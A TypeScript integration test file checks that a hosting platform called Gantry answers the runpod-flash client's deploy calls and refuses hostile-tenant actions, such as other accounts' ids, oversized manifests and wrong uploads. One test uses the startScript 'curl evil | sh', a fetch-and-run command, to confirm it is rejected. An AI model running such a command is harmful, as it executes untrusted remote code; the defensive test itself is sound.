/**
 * The hosted service's deploy tool (`runpod-flash`, pinned in test/fixtures/flash-client/requirements.txt)
 * pointed at Gantry by RUNPOD_API_BASE_URL alone: the GraphQL client that `flash deploy`, `flash
 * undeploy`, `flash app` and `flash env` go through (RunpodGraphQLClient) is called method by method
 * in the order `flash deploy` calls them, against a platform with an SSH test host, and answers with
 * Gantry's data. Then what a hostile tenant tries: another account's ids, oversized manifests, a
 * read-only key, bytes that are not what was declared.
 */
import { execFile, execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { issueApiKey } from '../../domain/accounts/index.ts';
import { newId } from '../../domain/shared/index.ts';
import { flashEnv } from '../support/flash-cli.ts';
import { call, type TestPlatform } from '../support/platform.ts';
import { ensurePythonClients, FLASH_CLIENT_REQUIREMENTS } from '../support/python-clients.ts';
import { type OneHostPlatform, startOneHostPlatform } from '../support/orchestration.ts';

const CALL_PY = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'fixtures', 'flash-client', 'call.py');

let fixture: OneHostPlatform | undefined;
let p: TestPlatform;
let python: string;
/** A home of its own: flash reads ~/.runpod/config.toml for a stored key when there is one. */
const home = mkdtempSync(path.join(tmpdir(), 'flash-home-'));
const work = mkdtempSync(path.join(tmpdir(), 'flash-work-'));

beforeAll(async () => {
  python = await ensurePythonClients({ requirements: FLASH_CLIENT_REQUIREMENTS });
  // No worker is started here: a flash runtime to pull (never pulled) keeps saveEndpoint from asking
  // the host for a Python 3.12 base it cannot get. That refusal is flash-init.test.ts's.
  process.env.GANTRY_FLASH_RUNTIME_IMAGE = 'localhost/gantry-flash-client-test:{python}';
  fixture = await startOneHostPlatform('flash-box');
  ({ p } = fixture);
}, 600_000);

afterAll(async () => {
  delete process.env.GANTRY_FLASH_RUNTIME_IMAGE;
  await fixture?.stop();
}, 120_000);

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- the client answers arbitrary JSON
type Answer = { result?: any; error?: string; message?: string };

/** `RunpodGraphQLClient().<method>(*args)` in a Python process of its own, with the key a user would give. */
async function flash(method: string, args: unknown[] = [], key = p.adminKey): Promise<Answer> {
  // The arguments go on stdin: a manifest can be larger than one command-line argument may be.
  const out = await new Promise<{ stdout: string; stderr: string }>((resolve) => {
    const child = execFile(
      python,
      [CALL_PY, method],
      {
        encoding: 'utf8',
        timeout: 60_000,
        // flash writes .flash/logs where it runs.
        cwd: work,
        env: { ...flashEnv({ home, url: p.url, key }), RUNPOD_URL_MIXED_OK: '1' },
      },
      (_err, stdout, stderr) => resolve({ stdout, stderr }),
    );
    child.stdin?.end(JSON.stringify(args));
  });
  try {
    return JSON.parse(out.stdout) as Answer;
  } catch {
    throw new Error(`${method}: no JSON answer: ${out.stdout} ${out.stderr}`);
  }
}

/** The method's result; a failure shows flash's own message. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- as above
async function ok(method: string, args: unknown[] = [], key?: string): Promise<any> {
  const a = await flash(method, args, key);
  expect(a.error, `${method}: ${a.error}: ${a.message}`).toBeUndefined();
  return a.result;
}

/** A document sent as flash sends it, for the error codes its client does not show. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- GraphQL answers are arbitrary JSON
async function gql(query: string, variables: Record<string, unknown>, key = p.adminKey): Promise<any> {
  return (await call(p.url, 'POST', '/graphql', { key, body: { query, variables } })).body;
}

/** A tar.gz of a tiny project, as `flash build` leaves one (any gzip passes; this one is a real archive). */
function artifact(name: string): { file: string; sha256: string; size: number } {
  const dir = mkdtempSync(path.join(work, `${name}-`));
  writeFileSync(
    path.join(dir, 'cpu_worker.py'),
    'async def cpu_hello(input_data: dict) -> dict:\n    return input_data\n',
  );
  const file = path.join(work, `${name}.tar.gz`);
  execFileSync('tar', ['-czf', file, '-C', dir, '.']);
  const bytes = readFileSync(file);
  return { file, sha256: createHash('sha256').update(bytes).digest('hex'), size: bytes.length };
}

/** A manifest as `flash build` writes it (one queue resource, one load-balanced). */
const manifest = (project: string) => ({
  version: '1.0',
  python_version: '3.12',
  project_name: project,
  resources: {
    cpu_worker: {
      resource_type: 'CpuLiveServerless',
      file_path: 'cpu_worker.py',
      functions: [{ name: 'cpu_hello', module: 'cpu_worker', is_async: true, is_class: false }],
      is_load_balanced: false,
      imageName: 'runpod/flash-cpu:py3.12-latest',
      instanceIds: ['cpu3c-2-4'],
      workersMin: 0,
      workersMax: 1,
    },
    lb_worker: {
      resource_type: 'CpuLiveLoadBalancer',
      file_path: 'lb_worker.py',
      is_load_balanced: true,
      imageName: 'runpod/flash-lb-cpu:py3.12-latest',
      instanceIds: ['cpu3c-2-4'],
      workersMin: 0,
      workersMax: 3,
    },
  },
  routes: { lb_worker: { 'GET /health': 'health', 'POST /process': 'process' } },
  source_fingerprint: 'f0e9cb27e9c7df98e03415331bf153a9567902027204938714eb52c7f935107c',
});

/** The saveEndpoint input flash sends for a CPU resource (serverless.py's model_dump, as captured from flash 1.19.0). */
function endpointInput(resource: string, environmentId: string, extra: Record<string, unknown> = {}) {
  const lb = resource === 'lb_worker';
  return {
    executionTimeoutMs: 0,
    idleTimeout: 60,
    instanceIds: ['cpu3c-2-4'],
    name: resource,
    flashEnvironmentId: environmentId,
    scalerType: lb ? 'REQUEST_COUNT' : 'QUEUE_DELAY',
    scalerValue: 4,
    type: lb ? 'LB' : 'QB',
    workersMax: lb ? 3 : 1,
    workersMin: 0,
    workersPFBTarget: 0,
    template: {
      advancedStart: false,
      config: {},
      containerDiskInGb: 10,
      containerRegistryAuthId: '',
      dockerArgs: '',
      env: [
        { key: 'FLASH_RESOURCE_NAME', value: resource },
        { key: 'FLASH_APP', value: 'shop' },
        { key: 'FLASH_ENV', value: 'production' },
        ...(lb ? [{ key: 'FLASH_ENDPOINT_TYPE', value: 'lb' }] : []),
      ],
      imageName: lb ? 'runpod/flash-lb-cpu:py3.12-latest' : 'runpod/flash-cpu:py3.12-latest',
      name: `${lb ? 'CpuLiveLoadBalancer' : 'CpuLiveServerless'}_${resource}__PodTemplate_0`,
      ports: '',
      startScript: '',
    },
    flashBootType: 'FLASHBOOT',
    ...extra,
  };
}

describe('the flash client against Gantry', () => {
  it('answers every document of flash deploy, app, env and undeploy, in flash deploy order', async () => {
    // FlashApp.from_name: "app not found" is what flash looks for before it creates the app.
    const missing = await flash('get_flash_app_by_name', ['shop']);
    expect(missing.error).toBeDefined();
    expect(missing.message?.toLowerCase()).toContain('app not found');
    const app = await ok('create_flash_app', [{ name: 'shop' }]);
    expect(app).toEqual({ id: expect.any(String), name: 'shop' });
    const env = await ok('create_flash_environment', [{ flashAppId: app.id, name: 'production' }]);
    expect(env).toEqual({ id: expect.any(String), name: 'production' });

    const listed = (await ok('list_flash_apps')).find((a: { id: string }) => a.id === app.id);
    expect(listed).toEqual({
      id: app.id,
      name: 'shop',
      flashEnvironments: [
        { id: env.id, name: 'production', state: 'PENDING', createdAt: expect.any(String), activeBuildId: null },
      ],
      flashBuilds: [],
    });

    // Upload: the size alone, flash's own PUT, then the manifest at finalize.
    const art = artifact('shop');
    const upload = await ok('prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: art.size }]);
    expect(upload).toEqual({
      uploadUrl: expect.any(String),
      objectKey: expect.any(String),
      expiresAt: expect.any(String),
    });
    expect(await ok('upload', [art.file, upload.uploadUrl])).toBeNull();
    const sent = manifest('shop');
    const build = await ok('finalize_artifact_upload', [
      { flashAppId: app.id, objectKey: upload.objectKey, manifest: sent },
    ]);
    expect(build).toEqual({ id: upload.objectKey, manifest: sent });
    // The digest Gantry computed is the build's: the bytes flash sent.
    const stored = await gql(
      'query($id: String!) { flashBuild(flashBuildId: $id) { kind sha256 status size pythonVersion } }',
      { id: build.id },
    );
    expect(stored.data.flashBuild).toEqual({
      kind: 'FLASH',
      sha256: art.sha256,
      status: 'READY',
      size: art.size,
      pythonVersion: '3.12',
    });

    const byName = await ok('get_flash_environment_by_name', [{ flashAppId: app.id, name: 'production' }]);
    expect(byName).toEqual({
      id: env.id,
      name: 'production',
      state: 'PENDING',
      activeBuildId: null,
      endpoints: [],
      networkVolumes: [],
    });
    const deployed = await ok('deploy_build_to_environment', [{ flashEnvironmentId: env.id, flashBuildId: build.id }]);
    expect(deployed).toEqual({
      id: expect.any(String),
      name: null,
      activeArtifact: { objectKey: build.id, downloadUrl: expect.any(String), expiresAt: expect.any(String) },
    });
    const fetched = await fetch(deployed.activeArtifact.downloadUrl);
    expect(fetched.status).toBe(200);
    expect(
      createHash('sha256')
        .update(Buffer.from(await fetched.arrayBuffer()))
        .digest('hex'),
    ).toBe(art.sha256);
    expect(await ok('get_flash_build', [build.id])).toEqual({ id: build.id, manifest: sent });

    // reconcile_and_provision_resources: one saveEndpoint per resource, the template inline.
    const cpu = await ok('save_endpoint', [endpointInput('cpu_worker', env.id)]);
    expect(cpu).toMatchObject({
      name: 'cpu_worker',
      type: 'QB',
      flashEnvironmentId: env.id,
      activeBuildid: build.id,
      instanceIds: ['cpu3c-2-4'],
      workersMin: 0,
      workersMax: 1,
      idleTimeout: 60,
      scalerType: 'QUEUE_DELAY',
      flashBootType: 'FLASHBOOT',
      executionTimeoutMs: 600_000,
      version: 1,
      aiKey: null,
      workersStandby: null,
      workersPFBTarget: null,
      idePodId: null,
      networkVolumeIds: [],
    });
    expect(cpu.templateId).toEqual(expect.any(String));
    const lb = await ok('save_endpoint', [endpointInput('lb_worker', env.id)]);
    expect(lb).toMatchObject({
      name: 'lb_worker',
      type: 'LB',
      scalerType: 'REQUEST_COUNT',
      flashEnvironmentId: env.id,
    });
    const template = await ok('get_template', [cpu.templateId]);
    expect(template).toMatchObject({ imageName: 'runpod/flash-cpu:py3.12-latest', containerDiskInGb: 10 });
    expect(template.env).toContainEqual({ key: 'FLASH_RESOURCE_NAME', value: 'cpu_worker' });
    expect(await ok('endpoint_exists', [cpu.id])).toBe(true);

    // ServerlessResource.update: the same endpoint with a changed template is a new release.
    const changed = endpointInput('cpu_worker', env.id, { id: cpu.id });
    changed.template.env.push({ key: 'GREETING', value: 'hi' });
    const updated = await ok('save_endpoint', [changed]);
    expect(updated).toMatchObject({ id: cpu.id, templateId: cpu.templateId, version: 2 });
    expect((await ok('get_template', [cpu.templateId])).env).toContainEqual({ key: 'GREETING', value: 'hi' });

    // flash records what it made in the build's manifest.
    const recorded = {
      ...sent,
      resources_endpoints: { cpu_worker: `${p.url}/v2/${cpu.id}`, lb_worker: `http://${lb.id}.lb.test` },
    };
    expect(await ok('update_build_manifest', [build.id, recorded])).toBeNull();
    expect((await ok('get_flash_build', [build.id])).manifest).toEqual(recorded);

    const envNow = await ok('get_flash_environment', [{ flashEnvironmentId: env.id }]);
    expect(envNow).toEqual({
      id: env.id,
      name: 'production',
      state: 'DEPLOYED',
      activeBuildId: build.id,
      createdAt: expect.any(String),
      endpoints: expect.arrayContaining([
        { id: cpu.id, name: 'cpu_worker' },
        { id: lb.id, name: 'lb_worker' },
      ]),
      networkVolumes: [],
    });
    expect(envNow.endpoints).toHaveLength(2);
    const got = await ok('get_flash_app', [app.id]);
    expect(got.flashEnvironments).toEqual([{ id: env.id, name: 'production', state: 'DEPLOYED' }]);
    expect(got.flashBuilds).toEqual([{ id: build.id, objectKey: build.id, createdAt: expect.any(String) }]);
    expect(await ok('list_flash_builds_by_app_id', [app.id])).toEqual(got.flashBuilds);
    expect(await ok('list_flash_environments_by_app_id', [app.id])).toEqual([
      { id: env.id, name: 'production', state: 'DEPLOYED', activeBuildId: build.id, createdAt: expect.any(String) },
    ]);

    // The worker-availability diagnostic: the test host (dc-1) has room for a 2-vCPU worker.
    expect(await ok('get_cpu_specific_stock_status', ['cpu3c', 'cpu3c-2-4', ''])).toMatch(/^(High|Medium|Low)$/);
    expect(await ok('get_cpu_specific_stock_status', ['cpu3c', 'cpu3c-2-4', 'dc-1'])).toMatch(/^(High|Medium|Low)$/);
    expect(await ok('get_cpu_specific_stock_status', ['cpu3c', 'cpu3c-2-4', 'no-such-dc'])).toBeNull();
    expect(await ok('get_cpu_specific_stock_status', ['cpu3c', 'cpu3c-512-1024', ''])).toBeNull();
    expect(await ok('get_gpu_lowest_price_stock_status', ['NVIDIA H100 80GB HBM3', 1, null])).toBeNull();

    // flash undeploy: deleteEndpoint without scaling down first (an environment's endpoint).
    expect(await ok('delete_endpoint', [lb.id])).toEqual({ success: true });
    expect(await ok('endpoint_exists', [lb.id])).toBe(false);
    // flash env delete, then flash app delete.
    expect(await ok('delete_flash_environment', [env.id])).toEqual({ success: true });
    expect(await ok('endpoint_exists', [cpu.id])).toBe(false);
    expect(await ok('delete_flash_app', [app.id])).toEqual({ success: true });
    expect((await flash('get_flash_app_by_name', ['shop'])).message?.toLowerCase()).toContain('app not found');
  }, 300_000);

  it('keeps tenants apart and refuses what does not fit, losing nothing', async () => {
    const app = await ok('create_flash_app', [{ name: 'vault' }]);
    const env = await ok('create_flash_environment', [{ flashAppId: app.id, name: 'production' }]);
    const art = artifact('vault');
    const up = await ok('prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: art.size }]);
    await ok('upload', [art.file, up.uploadUrl]);
    const sent = manifest('vault');
    const build = await ok('finalize_artifact_upload', [
      { flashAppId: app.id, objectKey: up.objectKey, manifest: sent },
    ]);

    // Another account: every id of this one is not found, whatever the operation.
    const other = await p.ctx.db.account.create({ data: { id: newId(), email: `${newId()}@example.test`, name: 'o' } });
    const otherKey = (await issueApiKey(p.ctx.db, other.id, 'o', ['READ', 'WRITE'])).key;
    const theirs = await ok('create_flash_app', [{ name: 'theirs' }], otherKey);
    const attempts: Array<[string, unknown[]]> = [
      ['get_flash_app', [app.id]],
      ['get_flash_app_by_name', ['vault']],
      ['get_flash_environment', [{ flashEnvironmentId: env.id }]],
      ['get_flash_environment_by_name', [{ flashAppId: app.id, name: 'production' }]],
      ['get_flash_build', [build.id]],
      ['update_build_manifest', [build.id, { stolen: true }]],
      ['deploy_build_to_environment', [{ flashEnvironmentId: env.id, flashBuildId: build.id }]],
      ['prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: 10 }]],
      ['finalize_artifact_upload', [{ flashAppId: app.id, objectKey: build.id, manifest: {} }]],
      ['finalize_artifact_upload', [{ flashAppId: theirs.id, objectKey: build.id, manifest: {} }]],
      ['save_endpoint', [endpointInput('cpu_worker', env.id)]],
      ['delete_flash_environment', [env.id]],
      ['delete_flash_app', [app.id]],
    ];
    for (const [method, args] of attempts) {
      const a = await flash(method, args, otherKey);
      expect(a.error, `${method} with another account's key`).toBeDefined();
      expect(a.message, method).toMatch(/not found/);
    }
    const buildQuery = 'query($id: String!) { flashBuild(flashBuildId: $id) { id manifest } }';
    expect((await gql(buildQuery, { id: build.id }, otherKey)).errors[0].extensions.code).toBe('NOT_FOUND');
    const envQuery = 'query($id: String!) { flashEnvironment(flashEnvironmentId: $id) { id } }';
    expect((await gql(envQuery, { id: env.id }, otherKey)).errors[0].extensions.code).toBe('NOT_FOUND');
    expect(await ok('get_flash_build', [build.id])).toEqual({ id: build.id, manifest: sent });
    expect((await ok('get_flash_environment', [{ flashEnvironmentId: env.id }])).state).toBe('PENDING');

    // Manifests: a JSON object of at most 128 KiB, nested at most 32 deep; the stored one stays.
    const update =
      'mutation($input: UpdateFlashBuildManifestInput!) { updateFlashBuildManifest(input: $input) { id } }';
    const big = { ...sent, padding: 'x'.repeat(140 * 1024) };
    const tooBig = await gql(update, { input: { flashBuildId: build.id, manifest: big } });
    expect(tooBig.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(tooBig.errors[0].message).toMatch(/at most 131072/);
    expect((await flash('update_build_manifest', [build.id, big])).message).toMatch(/at most 131072/);
    let deep: unknown = 'bottom';
    for (let i = 0; i < 40; i++) deep = { down: deep };
    const tooDeep = await gql(update, { input: { flashBuildId: build.id, manifest: deep } });
    expect(tooDeep.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(tooDeep.errors[0].message).toMatch(/nested deeper than 32/);
    const notObject = await gql(update, { input: { flashBuildId: build.id, manifest: [1, 2] } });
    expect(notObject.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(await ok('get_flash_build', [build.id])).toEqual({ id: build.id, manifest: sent });

    // A read-only key reads and cannot change anything.
    const admin = await p.ctx.db.account.findFirstOrThrow({ where: { email: 'admin@gantry.local' } });
    const readOnly = (await issueApiKey(p.ctx.db, admin.id, 'flash-ro', ['READ'])).key;
    expect((await ok('get_flash_app', [app.id], readOnly)).id).toBe(app.id);
    for (const [method, args] of [
      ['create_flash_app', [{ name: 'nope' }]],
      ['create_flash_environment', [{ flashAppId: app.id, name: 'staging' }]],
      ['prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: 10 }]],
      ['update_build_manifest', [build.id, { changed: true }]],
      ['deploy_build_to_environment', [{ flashEnvironmentId: env.id, flashBuildId: build.id }]],
      ['save_endpoint', [endpointInput('cpu_worker', env.id)]],
      ['delete_flash_app', [app.id]],
    ] as Array<[string, unknown[]]>)
      expect((await flash(method, args, readOnly)).error, `${method} with a read-only key`).toBeDefined();
    const create = 'mutation($input: CreateFlashAppInput!) { createFlashApp(input: $input) { id } }';
    expect((await gql(create, { input: { name: 'nope' } }, readOnly)).errors[0].extensions.code).toBe('FORBIDDEN');
    expect(
      (await gql(update, { input: { flashBuildId: build.id, manifest: {} } }, readOnly)).errors[0].extensions.code,
    ).toBe('FORBIDDEN');
    expect(await ok('get_flash_build', [build.id])).toEqual({ id: build.id, manifest: sent });
    expect((await ok('list_flash_apps')).map((a: { name: string }) => a.name)).not.toContain('nope');

    // Bytes that are not what was declared: refused at finalize and removed, so a new PUT can follow.
    const finalize =
      'mutation($input: FinalizeFlashArtifactUploadInput!) { finalizeFlashArtifactUpload(input: $input) { id status } }';
    const second = await ok('prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: art.size }]);
    const notGzip = path.join(work, 'not-gzip.bin');
    writeFileSync(notGzip, Buffer.alloc(art.size, 'a'));
    await ok('upload', [notGzip, second.uploadUrl]);
    const refused = await gql(finalize, { input: { flashAppId: app.id, objectKey: second.objectKey, manifest: sent } });
    expect(refused.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    expect(refused.errors[0].message).toMatch(/not a gzip file/);
    await ok('upload', [art.file, second.uploadUrl]);
    const noManifest = await gql(finalize, { input: { flashAppId: app.id, objectKey: second.objectKey } });
    expect(noManifest.errors[0].extensions.code).toBe('BAD_USER_INPUT');
    const accepted = await gql(finalize, {
      input: { flashAppId: app.id, objectKey: second.objectKey, manifest: sent },
    });
    expect(accepted.data.finalizeFlashArtifactUpload).toEqual({ id: second.objectKey, status: 'READY' });
    const short = await ok('prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: art.size + 5 }]);
    await ok('upload', [art.file, short.uploadUrl]);
    const wrongSize = await flash('finalize_artifact_upload', [
      { flashAppId: app.id, objectKey: short.objectKey, manifest: sent },
    ]);
    expect(wrongSize.message).toMatch(`the upload has ${art.size} bytes, the build declared ${art.size + 5}`);
    // Half of gantry deploy's form (a digest without its manifest) is neither form.
    const prepare =
      'mutation($input: PrepareFlashArtifactUploadInput!) { prepareFlashArtifactUpload(input: $input) { objectKey } }';
    const half = await gql(prepare, { input: { flashAppId: app.id, tarballSize: 10, sha256: art.sha256 } });
    expect(half.errors[0].extensions.code).toBe('BAD_USER_INPUT');

    // A start-up Gantry would not run is refused, not dropped.
    const scripted = endpointInput('cpu_worker', env.id);
    scripted.template.startScript = 'curl evil | sh';
    expect((await flash('save_endpoint', [scripted])).message).toMatch(/startScript/);
    expect(await p.ctx.db.endpoint.count({ where: { appEnvironmentId: env.id } })).toBe(0);
    expect(await ok('delete_flash_app', [app.id])).toEqual({ success: true });
  }, 600_000);

  it("keeps each environment to one tool's builds: a gantry deploy build is not put where flash deployed", async () => {
    const app = await ok('create_flash_app', [{ name: 'mixed' }]);
    const env = await ok('create_flash_environment', [{ flashAppId: app.id, name: 'production' }]);
    const art = artifact('mixed');
    const up = await ok('prepare_artifact_upload', [{ flashAppId: app.id, tarballSize: art.size }]);
    await ok('upload', [art.file, up.uploadUrl]);
    const flashBuild = await ok('finalize_artifact_upload', [
      { flashAppId: app.id, objectKey: up.objectKey, manifest: manifest('mixed') },
    ]);
    await ok('deploy_build_to_environment', [{ flashEnvironmentId: env.id, flashBuildId: flashBuild.id }]);

    // gantry deploy's form of the same mutations: a digest and its manifest at prepare, buildId at finalize.
    const gantryManifest = {
      format: 1,
      pythonVersion: '3.11',
      fingerprint: art.sha256,
      resources: [
        {
          name: 'worker',
          kind: 'queue',
          file: 'worker.py',
          function: 'handler',
          compute: { cpu: 'cpu3c-2-4' },
          workers: { min: 0, max: 1 },
          idleTimeout: 5,
          scaler: { type: 'QUEUE_DELAY', value: 4 },
          timeout: 60,
          env: {},
          dependencies: [],
        },
      ],
    };
    const prepared = await gql(
      'mutation($input: PrepareFlashArtifactUploadInput!) { prepareFlashArtifactUpload(input: $input) { buildId uploadUrl } }',
      {
        input: {
          flashAppId: app.id,
          tarballSize: art.size,
          sha256: art.sha256,
          manifest: JSON.stringify(gantryManifest),
        },
      },
    );
    const { buildId, uploadUrl } = prepared.data.prepareFlashArtifactUpload;
    await ok('upload', [art.file, uploadUrl]);
    const finalized = await gql(
      'mutation($input: FinalizeFlashArtifactUploadInput!) { finalizeFlashArtifactUpload(input: $input) { kind status manifest } }',
      { input: { flashAppId: app.id, buildId } },
    );
    expect(finalized.data.finalizeFlashArtifactUpload).toEqual({
      kind: 'GANTRY',
      status: 'READY',
      manifest: gantryManifest,
    });

    const deploy =
      'mutation($input: DeployBuildToEnvironmentInput!) { deployBuildToEnvironment(input: $input) { id name } }';
    const mixed = await gql(deploy, { input: { flashEnvironmentId: env.id, flashBuildId: buildId } });
    expect(mixed.errors[0].extensions.code).toBe('CONFLICT');
    expect(mixed.errors[0].message).toMatch(/runs a build of flash/);
    // Its manifest is what its deploy workflow reads: flash cannot replace it.
    const replaced = await flash('update_build_manifest', [buildId, { resources: {} }]);
    expect(replaced.message).toMatch(/manifest is fixed/);
    const stillThere = await gql('query($id: String!) { flashBuild(flashBuildId: $id) { manifest } }', { id: buildId });
    expect(stillThere.data.flashBuild.manifest).toEqual(gantryManifest);
    // The environment stays on flash's build, deployed.
    expect(await ok('get_flash_environment', [{ flashEnvironmentId: env.id }])).toMatchObject({
      activeBuildId: flashBuild.id,
      state: 'DEPLOYED',
    });
    expect(await ok('delete_flash_app', [app.id])).toEqual({ success: true });
  }, 300_000);

  it("makes and lists a resource's network volume through flash's REST client, in the hosted shape", async () => {
    // What flash's NetworkVolume.deploy() sends (model_dump: name, size, dataCenterId).
    const made = await ok('rest.create_network_volume', [{ name: 'flash-models', size: 10, dataCenterId: 'dc-1' }]);
    // Exactly the fields flash's model takes (it forbids any other).
    expect(Object.keys(made).sort()).toEqual(['dataCenterId', 'id', 'name', 'size']);
    expect(made).toMatchObject({ name: 'flash-models', size: 10, dataCenterId: 'dc-1' });
    const listed = await ok('rest.list_network_volumes');
    expect(listed).toContainEqual(made);
    // The same volume as Gantry's own API's.
    const own = await call(p.url, 'GET', `/v2/network-volumes/${made.id}`, { key: p.adminKey });
    expect(own.body).toMatchObject({ id: made.id, name: 'flash-models', size: 10, dataCenter: 'dc-1' });
    // Refused as flash shows it: a name taken, a data center Gantry has not, another account's list.
    expect(
      (await flash('rest.create_network_volume', [{ name: 'flash-models', size: 10, dataCenterId: 'dc-1' }])).message,
    ).toMatch(/REST request failed: 409/);
    expect(
      (await flash('rest.create_network_volume', [{ name: 'x', size: 10, dataCenterId: 'US-TX-3' }])).message,
    ).toMatch(/REST request failed: 422/);
    const other = await issueApiKey(
      p.ctx.db,
      (await p.ctx.db.account.create({ data: { id: newId(), email: 'vol-other@example.test', name: 'o' } })).id,
      'o',
      ['READ', 'WRITE'],
    );
    expect(await ok('rest.list_network_volumes', [], other.key)).toEqual([]);
    expect((await call(p.url, 'DELETE', `/v2/networkvolumes/${made.id}`, { key: other.key })).status).toBe(404);
    expect((await call(p.url, 'DELETE', `/v2/networkvolumes/${made.id}`, { key: p.adminKey })).status).toBe(204);
  }, 180_000);
});
